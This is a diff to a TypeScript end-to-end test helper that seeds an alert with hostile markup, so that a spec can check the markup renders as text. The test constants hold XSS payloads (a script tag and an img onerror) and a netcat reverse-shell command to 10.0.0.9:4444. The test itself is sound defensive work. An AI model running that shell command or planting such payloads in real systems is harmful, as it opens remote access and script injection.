@@ -1,21 +1,14 @@
 import { randomUUID } from "node:crypto";
-import path from "node:path";
 import { hashPassword } from "../lib/auth/passwords";
 import { processDocument, seedAlert, seedEvent, seedRule, seedUpload } from "../lib/db/alert-test-fixtures";
 import { createPrismaClient } from "../lib/db/client";
+import { E2E_DATABASE_URL } from "./database";
 
 /**
- * Seeds one alert straight into the end-to-end database (the file the
- * Playwright web server uses, see playwright.config.ts), with hostile markup
+ * Seeds one alert straight into the end-to-end database (the one the
+ * Playwright web server uses, see e2e/database.ts), with hostile markup
  * in both the guide and the event so the spec can prove it renders as text.
  */
-
-/**
- * The file `e2eDatabase` in playwright.config.ts points the web server at; a run
- * that gives its server another DATABASE_URL names it in E2E_DATABASE_URL.
- */
-const E2E_DATABASE_URL =
-  process.env.E2E_DATABASE_URL ?? `file:${path.join(import.meta.dirname, "..", ".cache", "e2e", "keelwatch-e2e.db")}`;
 
 export const HOSTILE_EVENT_VALUE = '<script>window.__keelwatchPwned = "event"</script>';
 export const HOSTILE_COMMAND_LINE = "nc -e /bin/sh 10.0.0.9 4444 <img src=x onerror=alert(1)>";
@@ -48,10 +41,12 @@ export interface SeededAlert {
 
 export async function seedAlertDetail(): Promise<SeededAlert> {
   const db = createPrismaClient(E2E_DATABASE_URL);
-  const tables = await db.$queryRawUnsafe<{ name: string }[]>(
-    "SELECT name FROM sqlite_master WHERE type = 'table' AND name = 'Alert'",
+  // Asked through Prisma rather than a catalog (sqlite_master, pg_tables), so it holds on either database.
+  const migrated = await db.alert.count().then(
+    () => true,
+    () => false,
   );
-  if (tables.length === 0) {
+  if (!migrated) {
     await db.$disconnect();
     throw new Error(
       `The end-to-end database ${E2E_DATABASE_URL} has no tables: the web server is not using this file. ` +
